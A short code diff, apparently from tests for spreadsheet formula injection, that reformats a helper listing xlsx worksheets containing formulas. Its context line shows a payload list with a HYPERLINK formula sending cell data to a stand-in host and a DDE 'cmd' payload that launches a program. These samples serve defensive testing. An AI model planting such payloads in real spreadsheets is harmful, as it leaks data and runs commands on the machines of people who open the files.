@@ -17,7 +17,9 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'
 
 def formulas(xlsx: bytes) -> list[str]:
     with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
-        return [name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]
+        return [
+            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
 
 
 def texts(xlsx: bytes) -> list[str]:
